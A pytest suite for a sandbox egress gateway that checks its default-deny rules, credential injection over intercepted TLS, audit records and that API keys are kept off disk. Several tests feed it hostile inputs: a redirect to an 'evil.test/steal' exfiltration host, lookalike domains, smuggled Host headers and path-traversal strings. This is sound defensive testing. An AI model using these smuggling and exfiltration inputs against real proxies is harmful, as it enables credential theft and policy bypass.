"""The gateway as a process: policy, credentials, interception and audit over real sockets."""

from __future__ import annotations

import json
import socket
import ssl
import time

import pytest

from harness.gateway.credentials import SENTINEL
from harness.gateway.process import GatewayProcess
from harness.standins.upstream import UpstreamServer

from .conftest import (
    ANTHROPIC_KEY,
    OPENAI_KEY,
    connect,
    connect_tunnel,
    http_get,
    parse_reply,
    recv_all,
    send_raw,
    tls_request,
)

pytestmark = pytest.mark.timeout(60)


def anthropic_call(path: str = "/v1/messages", host: str = "api.anthropic.com") -> bytes:
    body = b'{"model":"x"}'
    return (
        f"POST {path} HTTP/1.1\r\nHost: {host}\r\nx-api-key: {SENTINEL}\r\ncontent-type: application/json\r\n"
        f"content-length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body


def test_credential_injected_over_intercepted_tls(gateway: GatewayProcess, port: int, upstream: UpstreamServer) -> None:
    upstream.clear()
    reply = tls_request(port, "api.anthropic.com:443", gateway.ca_cert_pem(), anthropic_call())
    assert reply.status == 200, reply
    body = reply.json()
    assert body["credential"] == "ok"
    assert ANTHROPIC_KEY.encode() not in reply.raw  # the sandbox never sees the key
    [got] = upstream.received()
    assert got.sni == "api.anthropic.com"
    assert got.headers["x-api-key"] == ANTHROPIC_KEY
    assert SENTINEL not in got.headers.values()


def test_openai_bearer_and_keepalive(gateway: GatewayProcess, port: int, upstream: UpstreamServer) -> None:
    upstream.clear()
    sock, answer = connect_tunnel(port, "api.openai.com:443")  # no Host header, like Locust
    assert answer.startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context(cadata=gateway.ca_cert_pem().decode())
    with ctx.wrap_socket(sock, server_hostname="api.openai.com") as tls:
        for i in range(3):
            close = "Connection: close\r\n" if i == 2 else ""
            tls.sendall(
                f"GET /v1/models HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer {SENTINEL}\r\n"
                f"{close}\r\n".encode()
            )
            if i < 2:
                data = b""
                while b"}" not in data:
                    data += tls.recv(65536)
            else:
                data = recv_all(tls)
            assert parse_reply(data).status == 200
    assert [r.headers["authorization"] for r in upstream.received()] == [f"Bearer {OPENAI_KEY}"] * 3


def test_blocked_host_gets_403(gateway: GatewayProcess, port: int) -> None:
    reply = http_get(port, "http://example.com/")
    assert reply.status == 403
    assert reply.headers["x-blastradius-decision"] == "deny; rule=default-deny; host=example.com; port=80"
    _sock, answer = connect_tunnel(port, "example.com:443", "example.com:443")
    _sock.close()
    assert parse_reply(answer).status == 403


@pytest.mark.parametrize("bad_port", [22, 9999, 80])
def test_connect_to_unlisted_port_on_allowed_host_is_denied(port: int, bad_port: int) -> None:
    sock, answer = connect_tunnel(port, f"github.com:{bad_port}", f"github.com:{bad_port}")
    sock.close()
    reply = parse_reply(answer)
    assert reply.status == 403
    assert json.loads(reply.body)["port"] == bad_port


def test_allowed_host_without_credential_is_tunnelled_blind(port: int, upstream: UpstreamServer) -> None:
    upstream.clear()
    sock, answer = connect_tunnel(port, "github.com:443")
    assert answer == b"HTTP/1.1 200 Connection established\r\n\r\n"
    # The client sees the upstream's own certificate, i.e. no interception happened.
    ctx = ssl.create_default_context(cafile=str(upstream.ca_file))
    with ctx.wrap_socket(sock, server_hostname="github.com") as tls:
        tls.sendall(b"GET /repo HTTP/1.1\r\nHost: github.com\r\nConnection: close\r\n\r\n")
        assert parse_reply(recv_all(tls)).status == 200
    assert upstream.received()[-1].sni == "github.com"


def test_plain_http_absolute_form_and_connect_to_port_80(port: int, upstream: UpstreamServer) -> None:
    upstream.clear()
    reply = http_get(port, "http://PyPI.org./simple/requests/")
    assert reply.status == 200
    assert reply.json()["target"] == "/simple/requests/"
    # Locust's FastHttpUser: CONNECT (no Host) even for http, then plain HTTP in the tunnel.
    sock, answer = connect_tunnel(port, "pypi.org:80")
    assert answer.startswith(b"HTTP/1.1 200")
    sock.sendall(b"GET /simple/ HTTP/1.1\r\nHost: pypi.org\r\nConnection: close\r\n\r\n")
    assert parse_reply(recv_all(sock)).status == 200
    sock.close()


def test_normalised_names_still_bind_the_credential(
    gateway: GatewayProcess, port: int, upstream: UpstreamServer
) -> None:
    upstream.clear()
    reply = tls_request(
        port,
        "API.Anthropic.COM.:443",
        gateway.ca_cert_pem(),
        anthropic_call(host="api.anthropic.com"),
        server_hostname="api.anthropic.com",
    )
    assert reply.status == 200
    assert upstream.received()[-1].credential == "ok"


def test_redirect_is_not_followed_and_key_stays_home(
    gateway: GatewayProcess, port: int, upstream: UpstreamServer
) -> None:
    upstream.clear()
    reply = tls_request(
        port,
        "api.anthropic.com:443",
        gateway.ca_cert_pem(),
        anthropic_call("/redirect?to=https://evil.test/steal&status=307"),
    )
    assert reply.status == 307
    assert reply.headers["location"] == "https://evil.test/steal"
    assert len(upstream.received()) == 1  # the gateway did not follow
    # The agent follows it itself: evil.test is allowed, but holds no credential binding.
    sock, answer = connect_tunnel(port, "evil.test:443")
    assert answer.startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context(cafile=str(upstream.ca_file))
    with ctx.wrap_socket(sock, server_hostname="evil.test") as tls:
        tls.sendall(anthropic_call("/steal", host="evil.test"))
        assert parse_reply(recv_all(tls)).status == 200
    evil = upstream.received()[-1]
    assert evil.sni == "evil.test"
    assert evil.headers["x-api-key"] == SENTINEL


@pytest.mark.parametrize("lookalike", ["api.anthropic.com.evil.test", "api-anthropic.com"])
def test_lookalike_hosts_never_get_the_key(port: int, upstream: UpstreamServer, lookalike: str) -> None:
    upstream.clear()
    sock, answer = connect_tunnel(port, f"{lookalike}:443")
    assert answer.startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context(cafile=str(upstream.ca_file))
    with ctx.wrap_socket(sock, server_hostname=lookalike) as tls:
        tls.sendall(anthropic_call(host=lookalike))
        recv_all(tls)
    [got] = upstream.received()
    assert got.headers["x-api-key"] == SENTINEL
    assert all(ANTHROPIC_KEY not in v for v in got.headers.values())


def test_ip_literal_matches_only_cidr_and_gets_no_key(port: int, upstream: UpstreamServer) -> None:
    upstream.clear()
    sock, answer = connect_tunnel(port, f"127.0.0.1:{upstream.https_port}")
    assert answer.startswith(b"HTTP/1.1 200")  # allowed by the 127.0.0.1/32 CIDR rule
    ctx = ssl.create_default_context(cafile=str(upstream.ca_file))
    with ctx.wrap_socket(sock, server_hostname="api.anthropic.com") as tls:
        # SNI says api.anthropic.com, but the destination is an IP: blind tunnel, no injection.
        tls.sendall(anthropic_call())
        reply = parse_reply(recv_all(tls))
    assert reply.status == 401
    assert upstream.received()[-1].headers["x-api-key"] == SENTINEL
    sock, answer = connect_tunnel(port, "127.0.0.1:443")  # the CIDR rule starts at port 1024
    sock.close()
    assert parse_reply(answer).status == 403


def test_method_and_path_rules_on_intercepted_host(gateway: GatewayProcess, port: int) -> None:
    ca = gateway.ca_cert_pem()

    def call(method: str, path: str) -> int:
        req = f"{method} {path} HTTP/1.1\r\nHost: files.pythonhosted.org\r\nConnection: close\r\n\r\n".encode()
        return tls_request(port, "files.pythonhosted.org:443", ca, req).status

    assert call("GET", "/packages/ab/cd/requests.whl") == 200
    assert call("POST", "/packages/ab/cd/requests.whl") == 403
    assert call("GET", "/admin") == 403
    assert call("GET", "/packages/../admin") == 403
    assert call("GET", "/packages/%2e%2e/admin") == 403
    assert call("GET", "/packages%2f..%2fadmin") == 400


@pytest.mark.parametrize(
    "request_bytes",
    [
        b"CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
        b"CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: api.anthropic.com:8443\r\n\r\n",
        b"GET http://pypi.org/simple/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        b"GET http://pypi.org/ HTTP/1.1\r\nHost: pypi.org\r\nHost: evil.test\r\n\r\n",
        b"GET http://user@pypi.org/ HTTP/1.1\r\nHost: pypi.org\r\n\r\n",
        b"GET https://pypi.org/ HTTP/1.1\r\nHost: pypi.org\r\n\r\n",
        b"GET /simple/ HTTP/1.1\r\nHost: pypi.org\r\n\r\n",
        b"CONNECT 127.1:443 HTTP/1.1\r\n\r\n",
        b"CONNECT api.anthropic.com HTTP/1.1\r\n\r\n",
    ],
)
def test_mismatched_or_malformed_targets_are_refused(port: int, request_bytes: bytes) -> None:
    reply = parse_reply(send_raw(port, request_bytes))
    assert reply.status == 400
    assert reply.headers["connection"] == "close"


def test_intercepted_request_for_another_host_is_refused(gateway: GatewayProcess, port: int) -> None:
    ca = gateway.ca_cert_pem()
    other_host = b"GET /v1 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
    assert tls_request(port, "api.anthropic.com:443", ca, other_host).status == 400
    absolute = b"GET https://evil.test/v1 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
    assert tls_request(port, "api.anthropic.com:443", ca, absolute).status == 400


AUDIT_WAIT_S = 2.0


@pytest.mark.parametrize("sni", [None, "evil.test"])
def test_missing_or_wrong_sni_to_intercepted_host_is_refused(
    gateway: GatewayProcess, port: int, upstream: UpstreamServer, sni: str | None
) -> None:
    upstream.clear()
    sock, answer = connect_tunnel(port, "api.anthropic.com:443")
    assert answer.startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context(cadata=gateway.ca_cert_pem().decode())
    ctx.check_hostname = False
    with pytest.raises((ssl.SSLError, ConnectionError)), ctx.wrap_socket(sock, server_hostname=sni) as tls:
        tls.sendall(anthropic_call())
        recv_all(tls)
    assert upstream.received() == []
    expected = "tls-no-sni" if sni is None else "tls-sni-mismatch"
    # The client sees the handshake fail before the gateway has written its audit line.
    deadline = time.monotonic() + AUDIT_WAIT_S
    while expected not in (reasons := [r["reason"] for r in gateway.audit_records() if r["event"] == "connect"]):
        if time.monotonic() > deadline:
            break
        time.sleep(0.02)
    assert expected in reasons


def test_intercepted_host_rejects_untrusted_ca(port: int) -> None:
    sock, _ = connect_tunnel(port, "api.anthropic.com:443")
    ctx = ssl.create_default_context()  # system trust only: our leaf is not trusted there
    with (
        pytest.raises(ssl.SSLCertVerificationError),
        ctx.wrap_socket(sock, server_hostname="api.anthropic.com"),
    ):
        pass


def test_upstream_down_gives_502(make_gateway: object) -> None:
    gw = make_gateway(upstream_overrides={"*": "127.0.0.1:1"})  # type: ignore[operator]
    port = gw.add_sandbox("sb-down")
    reply = http_get(port, "http://pypi.org/")
    assert reply.status == 502
    sock, answer = connect_tunnel(port, "github.com:443")
    sock.close()
    assert parse_reply(answer).status == 502
    assert {r["decision"] for r in gw.audit_records()} == {"error"}


def test_audit_records_each_decision(gateway: GatewayProcess, port: int) -> None:
    http_get(port, "http://example.com/audit-check")
    tls_request(port, "api.anthropic.com:443", gateway.ca_cert_pem(), anthropic_call("/v1/audit-check"))
    records = gateway.audit_records()
    denied = [r for r in records if r.get("path") == "/audit-check"]
    assert denied and denied[-1]["decision"] == "deny" and denied[-1]["sandbox"] == "sb-main"
    allowed = [r for r in records if r.get("path") == "/v1/audit-check"][-1]
    expected_keys = {
        "ts",
        "sandbox",
        "method",
        "scheme",
        "host",
        "port",
        "path",
        "rule",
        "decision",
        "deny_mode",
        "credential",
        "status",
        "bytes_up",
        "bytes_down",
        "upstream_ms",
    }
    assert expected_keys <= set(allowed)
    assert allowed["credential"] == "anthropic"
    assert allowed["decision"] == "allow" and allowed["status"] == 200 and allowed["intercepted"]
    assert allowed["bytes_down"] > 0 and allowed["upstream_ms"] is not None


def test_secrets_never_written_to_disk(gateway: GatewayProcess, port: int) -> None:
    """After all the traffic above: no key in the audit log, the gateway log, or its state dir."""
    tls_request(port, "api.anthropic.com:443", gateway.ca_cert_pem(), anthropic_call())
    state = gateway.config.state_dir
    assert state is not None
    files = [p for p in state.rglob("*") if p.is_file()]
    files.append(gateway.audit_path)
    assert gateway.audit_path.stat().st_size > 0
    for path in files:
        data = path.read_bytes()
        for secret in (ANTHROPIC_KEY, OPENAI_KEY):
            assert secret.encode() not in data, path
    assert gateway.stats()["audit_redactions"] == 0  # nothing even tried to log one


def test_sandbox_identity_is_the_listener(gateway: GatewayProcess) -> None:
    a = gateway.add_sandbox("sb-a")
    b = gateway.add_sandbox("sb-b")
    assert a != b
    http_get(a, "http://example.com/who")
    http_get(b, "http://example.com/who")
    who = [r["sandbox"] for r in gateway.audit_records() if r.get("path") == "/who"]
    assert who == ["sb-a", "sb-b"]
    gateway.remove_sandbox("sb-b")
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection(("127.0.0.1", b), timeout=2).close()
    assert gateway.stats()["sandboxes"]["sb-a"]["connections"] == 1


def test_pipelined_requests_in_one_write(port: int, upstream: UpstreamServer) -> None:
    upstream.clear()
    one = b"GET http://pypi.org/a HTTP/1.1\r\nHost: pypi.org\r\n\r\n"
    two = b"GET http://pypi.org/b HTTP/1.1\r\nHost: pypi.org\r\nConnection: close\r\n\r\n"
    with connect(port) as sock:
        sock.sendall(one + two)
        data = recv_all(sock)
    assert data.count(b"HTTP/1.1 200") == 2
    assert [r.target for r in upstream.received()] == ["/a", "/b"]


def test_large_bodies_through_interception(gateway: GatewayProcess, port: int, upstream: UpstreamServer) -> None:
    ca = gateway.ca_cert_pem()
    size = 5 * 1024 * 1024
    download = b"GET /bytes/%d HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n" % size
    reply = tls_request(port, "api.anthropic.com:443", ca, download)
    assert reply.status == 200 and len(reply.body) == size
    chunk = b"y" * 65536
    body = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for _ in range(16)) + b"0\r\n\r\n"
    upload = (
        b"POST /upload HTTP/1.1\r\nHost: api.anthropic.com\r\nTransfer-Encoding: chunked\r\n"
        b"Expect: 100-continue\r\nConnection: close\r\n\r\n" + body
    )
    upstream.clear()
    reply = tls_request(port, "api.anthropic.com:443", ca, upload)
    assert b"HTTP/1.1 100" in reply.raw or reply.status == 200
    assert upstream.received()[-1].body_len == 16 * 65536
    assert upstream.received()[-1].credential == "ok"


def test_plain_http_inside_connect_is_intercepted_when_rules_need_it(port: int) -> None:
    """Locust-style CONNECT for plain http to a host with path rules: each request is checked."""

    def call(method: str, path: str) -> int:
        sock, answer = connect_tunnel(port, "files.pythonhosted.org:80")
        assert answer.startswith(b"HTTP/1.1 200")
        with sock:
            sock.sendall(
                f"{method} {path} HTTP/1.1\r\nHost: files.pythonhosted.org\r\nConnection: close\r\n\r\n".encode()
            )
            return parse_reply(recv_all(sock)).status

    assert call("GET", "/packages/x.whl") == 200
    assert call("DELETE", "/packages/x.whl") == 403
    assert call("GET", "/elsewhere") == 403


def read_one_response(sock: socket.socket, head_only: bool = False) -> tuple[bytes, bytes]:
    """(head, body) of one Content-Length framed response on a kept-alive connection."""
    data = b""
    while b"\r\n\r\n" not in data:
        data += sock.recv(65536)
    head, _, body = data.partition(b"\r\n\r\n")
    if head_only:
        return head, body
    lines = head.split(b"\r\n")
    length = int(next(line.split(b":")[1] for line in lines if line.lower().startswith(b"content-length")))
    while len(body) < length:
        body += sock.recv(262144)
    return head, body


def test_keepalive_mixes_large_bodies_head_and_status_without_desync(port: int, upstream: UpstreamServer) -> None:
    """Content-Length bodies skip h11's receive buffer; the pooled upstream connection must stay in
    step for whatever comes next on it: another large body, a HEAD, an empty 204."""
    upstream.clear()
    with connect(port) as sock:
        for size in (300_000, 1, 0, 300_000):
            sock.sendall(f"GET http://pypi.org/bytes/{size} HTTP/1.1\r\nHost: pypi.org\r\n\r\n".encode())
            head, body = read_one_response(sock)
            assert head.startswith(b"HTTP/1.1 200") and len(body) == size
        sock.sendall(b"HEAD http://pypi.org/bytes/5000 HTTP/1.1\r\nHost: pypi.org\r\n\r\n")
        head, rest = read_one_response(sock, head_only=True)
        assert head.startswith(b"HTTP/1.1 200") and rest == b""
        sock.sendall(b"GET http://pypi.org/status/204 HTTP/1.1\r\nHost: pypi.org\r\n\r\n")
        head, rest = read_one_response(sock, head_only=True)
        assert head.startswith(b"HTTP/1.1 204") and rest == b""
        sock.sendall(b"GET http://pypi.org/bytes/70000 HTTP/1.1\r\nHost: pypi.org\r\nConnection: close\r\n\r\n")
        head, body = read_one_response(sock)
        assert len(body) == 70000
    assert len(upstream.received()) == 7
